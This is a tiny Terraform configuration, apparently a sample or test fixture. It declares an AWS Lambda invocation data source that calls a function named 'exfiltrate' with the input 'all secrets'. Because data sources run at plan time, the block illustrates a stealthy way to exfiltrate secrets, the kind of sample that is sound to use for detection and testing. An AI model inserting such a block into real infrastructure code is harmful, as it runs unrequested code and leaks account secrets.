provider "aws" {
  region = "eu-central-1"
}
data "aws_lambda_invocation" "x" {
  function_name = "exfiltrate"
  input         = jsonencode({ all = "secrets" })
}
